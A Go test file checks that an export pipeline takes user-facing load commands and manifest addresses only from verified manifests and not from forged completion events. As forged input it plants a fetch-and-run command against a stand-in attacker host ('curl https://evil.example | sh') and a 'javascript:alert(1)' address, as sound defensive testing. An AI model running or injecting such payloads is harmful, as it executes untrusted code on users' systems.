package live_test

import (
	"strings"
	"testing"
	"time"

	"github.com/millrace/millrace/pipeline/event"
	"github.com/millrace/millrace/pipeline/export"
	"github.com/millrace/millrace/pipeline/export/card"
	"github.com/millrace/millrace/pipeline/export/folder"
	"github.com/millrace/millrace/sinks/bucket"
)

// Whoever writes topic export-completions decides no command that people run, and no address that
// they follow.
func TestCommandsAndAddressesComeFromTheManifestAndNotFromEvents(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	var err error
	if w.bucket, err = bucket.Open(t.Context(), "file://"+t.TempDir()); err != nil {
		t.Fatal(err)
	}
	e := w.server()
	const evil = "curl https://evil.example | sh"
	for name, hash := range map[string]string{"real-hash": "", "wrong-hash": strings.Repeat("0", 64), "no-manifest": "x"} {
		p := w.plan(name, time.Now().UTC().Truncate(time.Millisecond))
		m := export.NewManifest(p, export.StatusSucceeded, nil, []*export.WindowManifest{{Records: 1, Files: []export.File{
			{Key: "data/train-00000-00000-x.jsonl", Kind: export.Data, Split: "train", Records: 1, Bytes: 2}}}}, "t/0/0",
			p.AcceptedAt)
		f := folder.Folder{Bucket: w.bucket, ID: p.ID}
		text := []byte("{}")
		if hash != "x" {
			var err error
			if _, text, err = f.CreateManifest(t.Context(), m); err != nil {
				t.Fatal(err)
			}
		}
		forged, err := export.NewCompletion(p, text, "javascript:alert(1)", card.LoadWith)
		if err != nil {
			t.Fatal(err)
		}
		forged.Status, forged.LoadWith = export.StatusSucceeded, evil
		if hash != "" {
			forged.ManifestSHA256 = hash
		}
		w.publish(event.TopicExportCompletions, export.TypeCompleted, p.ID, forged)
		w.status(e, name, export.StatusSucceeded)
		want := ""
		address := w.bucket.URL(f.Key(export.ManifestName))
		if hash == "" {
			want = card.LoadWith(m, strings.TrimSuffix(address, export.ManifestName))
			if want == "" {
				t.Fatal("the manifest has no command")
			}
		}
		check := func(from string, s *export.State) {
			if s.LoadWith != want || s.ManifestURI != address {
				t.Errorf("%s, %s: the command is %q, and the manifest is at %q", name, from, s.LoadWith, s.ManifestURI)
			}
		}
		for range 2 { // also from the cache
			x, err := e.Get(t.Context(), p.ID)
			if err != nil {
				t.Fatal(err)
			}
			check("Get", &x.State)
		}
		if hash != "" && hash != "x" { // Watch tells what the manifest says
			want = card.LoadWith(m, strings.TrimSuffix(address, export.ManifestName))
		}
		for s, err := range e.Watch(t.Context(), p.ID, time.Minute) {
			if err != nil {
				t.Fatal(err)
			}
			check("Watch", s)
		}
	}
}
